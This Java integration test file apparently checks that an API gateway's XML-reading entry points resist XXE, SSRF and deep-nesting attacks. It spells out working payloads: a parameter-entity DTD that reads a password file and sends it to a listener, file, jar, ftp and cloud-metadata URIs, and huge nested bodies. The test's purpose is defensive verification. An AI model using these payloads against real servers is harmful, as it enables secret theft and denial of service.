package org.gatehouse.distribution;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Documents that name something outside, at every door that reads XML: a server listens for whoever comes to fetch it, and the
 * installation has secrets that must not come out.
 */
@ExtendWith(SharedServer.class)
@TestInstance(TestInstance.Lifecycle.PER_METHOD)
final class XmlReachIT {
    private static final String NS = "xmlns=\"http://ws.apache.org/ns/synapse\"";

    private final Server server;
    private final Http http = new Http();
    private final Queue<String> asked = new ConcurrentLinkedQueue<>();
    private final Map<String, String> documents = new ConcurrentHashMap<>();
    private RawBackend listening;
    private String secret;

    XmlReachIT(Server server) {
        this.server = server;
    }

    @BeforeEach
    void listen() throws IOException {
        listening = new RawBackend((in, out) -> {
            String head = RawBackend.readHead(in);
            String target = head.isEmpty() ? "a connection" : head.split(" ", 3)[1];
            asked.add(target);
            out.write(("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + documents.getOrDefault(target, "<r/>"))
                    .getBytes(StandardCharsets.UTF_8));
        });
        secret = Files.readString(secretFile()).strip();
    }

    @AfterEach
    void close() throws IOException {
        listening.close();
    }

    private Path secretFile() {
        return server.home().resolve("repository/resources/security/store.password");
    }

    private String at(String path) {
        return "http://127.0.0.1:" + listening.port() + path;
    }

    /** In front of a document; each asks for something in another way. */
    private Stream<String> documentTypes(String root) {
        String external = "<!ENTITY % f SYSTEM \"" + secretFile().toUri()
                + "\"><!ENTITY % mk \"<!ENTITY &#x25; send SYSTEM '" + at("/leak") + "?%f;'>\"> %mk; %send;";
        documents.put("/ev.dtd", external);
        return Stream.of(
                "<!DOCTYPE " + root + " SYSTEM \"" + at("/ev.dtd") + "\">",
                "<!DOCTYPE " + root + " [<!ENTITY % dtd SYSTEM \"" + at("/ev.dtd") + "\"> %dtd;]>",
                "<!DOCTYPE " + root + " [<!ENTITY x SYSTEM \"" + at("/x") + "\">]>",
                "<!DOCTYPE " + root + " [<!ENTITY x SYSTEM \"" + secretFile().toUri() + "\">]>");
    }

    private void nothingCame(String where, String said) {
        assertThat(asked).as(where).isEmpty();
        assertThat(said).as(where).doesNotContain(secret);
    }

    private static String wsdl(String service, String more) {
        return "<definitions xmlns=\"http://schemas.xmlsoap.org/wsdl/\" xmlns:soap=\"http://schemas.xmlsoap.org/wsdl/soap/\""
                + " targetNamespace=\"urn:t\">" + more + "<service name=\"" + service
                + "\"><port name=\"Pt\"><soap:address location=\"http://localhost:1/soap\"/></port></service></definitions>";
    }

    private static String endpointConfig(String uri) {
        return "{\"endpoint_type\":\"wsdl\",\"production_endpoints\":{\"url\":\"" + uri
                + "\",\"config\":null},\"wsdlendpointService\":\"S\",\"wsdlendpointPort\":\"Pt\"}";
    }

    @Test
    void whoCreatesAnApiReadsNothingOfTheServerByItsWsdl() {
        Client client = new Client(server).signIn();
        ApiForm api = new ApiForm("Reaching", "/reaching", "http://localhost:1").open();
        client.add(api).publish("Reaching");
        for (String type : documentTypes("definitions").toList()) {
            documents.put("/inner.wsdl", type + wsdl("S", ""));
            documents.put(
                    "/outer.wsdl",
                    wsdl("Other", "<import namespace=\"urn:y\" location=\"" + at("/inner.wsdl") + "\"/>"));
            for (String uri : List.of("/inner.wsdl", "/outer.wsdl")) {
                String said = client.publisher(
                                "item-add/ajax/add.jag",
                                api.with("endpoint_config", endpointConfig(at(uri)))
                                        .fields("updateAPI"))
                        .body();
                assertThat(said).as(type).contains("\"error\" : true").doesNotContain(secret);
            }
        }
        assertThat(asked).isNotEmpty().allMatch(target -> target.equals("/inner.wsdl") || target.equals("/outer.wsdl"));
        asked.clear();
        for (String uri : List.of(
                secretFile().toUri().toString(),
                server.home().resolve("etc/users.properties").toUri().toString(),
                "jar:" + at("/x.jar") + "!/s.wsdl",
                "ftp://127.0.0.1:" + listening.port() + "/s.wsdl",
                "http://169.254.169.254/latest/meta-data")) {
            String said = client.publisher(
                            "item-add/ajax/add.jag",
                            api.with("endpoint_config", endpointConfig(uri)).fields("updateAPI"))
                    .body();
            assertThat(said).as(uri).contains("\"error\" : true");
            nothingCame(uri, said);
        }
        client.setStatus("Reaching", "RETIRED");
    }

    @Test
    void artefactsOfEveryFolderReachNothing() throws IOException {
        Map<String, String> artefacts = Map.of(
                "api",
                "<api " + NS
                        + " name=\"%1$s\" context=\"/%1$s\"><resource methods=\"GET\" url-mapping=\"/*\"><inSequence>"
                        + "<respond/></inSequence></resource></api>",
                "sequences",
                "<sequence " + NS + " name=\"%1$s\"><respond/></sequence>",
                "endpoints",
                "<endpoint " + NS + " name=\"%1$s\"><http uri-template=\"http://localhost:1\"/></endpoint>",
                "local-entries",
                "<localEntry " + NS + " key=\"%1$s\"><a/></localEntry>",
                "proxy-services",
                "<proxy " + NS + " name=\"%1$s\"><target inSequence=\"main\"/></proxy>");
        for (Map.Entry<String, String> artefact : artefacts.entrySet()) {
            String root = artefact.getValue().substring(1, artefact.getValue().indexOf(' '));
            int number = 0;
            for (String type : documentTypes(root).toList()) {
                String name = "reach-" + root + number++;
                refused(artefact.getKey(), name, type + artefact.getValue().formatted(name));
            }
            nothingCame(artefact.getKey(), "");
        }
        String secretUri = secretFile().toUri().toString();
        refused("local-entries", "reach-src1", "<localEntry " + NS + " key=\"reach-src1\" src=\"" + secretUri + "\"/>");
        refused(
                "local-entries",
                "reach-src2",
                "<localEntry " + NS
                        + " key=\"reach-src2\" src=\"file:repository/resources/security/store.password\"/>");
        refused(
                "endpoints",
                "reach-group",
                "<endpoint " + NS + " name=\"reach-group\"><failover><endpoint name=\"m\"><wsdl uri=\"" + secretUri
                        + "\" service=\"S\" port=\"Pt\"/></endpoint></failover></endpoint>");
        refused(
                "proxy-services",
                "reach-wsdl",
                "<proxy " + NS + " name=\"reach-wsdl\"><target inSequence=\"main\"/><publishWSDL uri=\""
                        + server.conf("api-manager.xml").toUri() + "\"/></proxy>");
        nothingCame("sources", "");
    }

    private void refused(String folder, String name, String xml) throws IOException {
        Path file = Files.createDirectories(server.synapse(folder)).resolve(name + ".xml");
        Files.writeString(file, xml);
        Eventually.within(
                Duration.ofSeconds(10),
                name + " is refused",
                () -> server.log().lines().anyMatch(line -> line.contains(name + ".xml: line ")));
        Files.delete(file);
    }

    /** Stylesheets, schemas, expressions and texts that mediators make XML of. */
    @Test
    void mediatorsReachNothing() throws IOException {
        String secretUri = secretFile().toUri().toString();
        String style =
                "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">%s</xsl:stylesheet>";
        String schema = "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\">%s</xs:schema>";
        String show =
                "<payloadFactory><format><r xmlns=\"\">$1</r></format><args><arg expression=\"%s\"/></args></payloadFactory><respond/>";
        Map<String, String> entries = Map.of(
                "reach-style1", style.formatted("<xsl:import href=\"" + at("/import") + "\"/>"),
                "reach-style2", style.formatted("<xsl:include href=\"" + secretUri + "\"/>"),
                "reach-style3",
                        style.formatted("<xsl:template match=\"/\"><r><xsl:copy-of select=\"document('" + at("/doc")
                                + "')\"/></r></xsl:template>"),
                "reach-style4",
                        style.formatted("<xsl:template match=\"/\"><r><xsl:value-of select=\"document('" + secretUri
                                + "')\"/></r></xsl:template>"),
                "reach-schema1", schema.formatted("<xs:include schemaLocation=\"" + at("/include") + "\"/>"),
                "reach-schema2",
                        schema.formatted("<xs:import namespace=\"urn:x\" schemaLocation=\"" + secretUri + "\"/>"));
        for (Map.Entry<String, String> entry : entries.entrySet()) {
            server.drop(
                    "local-entries",
                    entry.getKey(),
                    "<localEntry " + NS + " key=\"" + entry.getKey() + "\">" + entry.getValue() + "</localEntry>");
            mediated(
                    entry.getKey().contains("style")
                            ? "<xslt key=\"" + entry.getKey() + "\"/><respond/>"
                            : "<validate><schema key=\"" + entry.getKey()
                                    + "\"/><on-fail><respond/></on-fail></validate><respond/>",
                    "application/xml",
                    "<a/>");
            Files.delete(server.synapse("local-entries").resolve(entry.getKey() + ".xml"));
        }
        for (String address : List.of(at("/document"), secretFile().toString(), secretUri)) {
            mediated(show.formatted("document('" + address + "')"), "application/xml", "<a/>");
        }
        for (String type : documentTypes("a").toList()) {
            String document = type + "<a>&x;</a>";
            mediated("<log level=\"full\"/><respond/>", "application/xml", document);
            String json = "{\"t\":\"" + document.replace("\"", "\\\"") + "\"}";
            mediated(show.formatted("string(//t)"), "application/json", json);
            mediated(
                    "<property name=\"p\" expression=\"string(//t)\" type=\"OM\"/>" + show.formatted("$ctx:p"),
                    "application/json",
                    json);
        }
    }

    private void mediated(String in, String type, String body) throws IOException {
        Path file = server.drop(
                "reachmediators",
                "<api " + NS
                        + " name=\"reachmediators\" context=\"/reachmediators\"><resource methods=\"POST\" url-mapping=\"/*\">"
                        + "<inSequence>" + in + "</inSequence></resource></api>");
        String said = post("http://localhost:" + server.gateway() + "/reachmediators/x", type, body)
                .body();
        nothingCame(in, said);
        Files.delete(file);
    }

    @Test
    void servicesAndAssertionsReachNothing() {
        String services = "https://localhost:" + server.https() + "/services/";
        for (String type : documentTypes("s:Envelope").toList()) {
            String envelope =
                    type + "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><listUsers>"
                            + "<filter>&x;</filter></listUsers></s:Body></s:Envelope>";
            for (String service :
                    List.of("UserAdmin", "AuthenticationAdmin", "RestApiAdmin", "APIKeyValidationService")) {
                nothingCame(
                        service,
                        post(services + service, "text/xml", envelope, "Authorization", "Basic YWRtaW46YWRtaW4=")
                                .body());
            }
        }
        String deploy = "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><addApiFromString "
                + "xmlns=\"http://api.rest.carbon.wso2.org\"><apiData>%s</apiData></addApiFromString></s:Body></s:Envelope>";
        for (String type : documentTypes("api").toList()) {
            String xml = (type + "<api " + NS + " name=\"soapreach\" context=\"/soapreach\"/>")
                    .replace("&", "&amp;")
                    .replace("<", "&lt;");
            nothingCame(
                    type,
                    post(
                                    services + "RestApiAdmin",
                                    "text/xml",
                                    deploy.formatted(xml),
                                    "Authorization",
                                    "Basic YWRtaW46YWRtaW4=")
                            .body());
        }
        for (String type : documentTypes("a").toList()) {
            String assertion =
                    Base64.getUrlEncoder().encodeToString((type + "<a>&x;</a>").getBytes(StandardCharsets.UTF_8));
            nothingCame(
                    type,
                    http.postForm(
                                    "https://localhost:" + server.https() + "/oauth2/token",
                                    Map.of(
                                            "grant_type",
                                            "urn:ietf:params:oauth:grant-type:saml2-bearer",
                                            "assertion",
                                            assertion))
                            .body());
        }
    }

    /** Bodies that nest and repeat beyond all use, at the gateway and at the services. */
    @Test
    void whatIsBeyondAllUseIsRefusedAsItsSendersMistake() throws IOException {
        Path file = server.drop(
                "reachbounds",
                "<api " + NS
                        + " name=\"reachbounds\" context=\"/reachbounds\"><resource methods=\"POST\" url-mapping=\"/*\">"
                        + "<inSequence><filter xpath=\"//b\"><then/></filter><respond/></inSequence></resource></api>");
        String address = "http://localhost:" + server.gateway() + "/reachbounds/x";
        for (String xml : List.of(
                "<a>".repeat(5_000) + "</a>".repeat(5_000),
                "<a>".repeat(1_000_000),
                "<r>" + "<a/>".repeat(2_000_000) + "</r>")) {
            assertThat(post(address, "application/xml", xml).statusCode()).isEqualTo(400);
        }
        for (String json : List.of(
                "[".repeat(5_000) + "]".repeat(5_000), "[".repeat(1_000_000), "[" + "1,".repeat(2_000_000) + "1]")) {
            assertThat(post(address, "application/json", json).statusCode()).isEqualTo(400);
        }
        assertThat(post(address, "application/xml", "<a><b/></a>").statusCode()).isEqualTo(200);
        Files.delete(file);
        String envelope = "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>"
                + "<a>".repeat(5_000) + "</a>".repeat(5_000) + "</s:Body></s:Envelope>";
        HttpResponse<String> refused = post(
                "https://localhost:" + server.https() + "/services/UserAdmin",
                "text/xml",
                envelope,
                "Authorization",
                "Basic YWRtaW46YWRtaW4=");
        assertThat(refused.statusCode()).isGreaterThanOrEqualTo(400);
        assertThat(refused.body()).doesNotContain("StackOverflow", "at org.");
    }

    private HttpResponse<String> post(String address, String type, String body, String... headers) {
        String[] all = Stream.concat(Stream.of("Content-Type", type), Stream.of(headers))
                .toArray(String[]::new);
        return http.send(Http.request(address, all)
                .POST(HttpRequest.BodyPublishers.ofString(body))
                .build());
    }
}
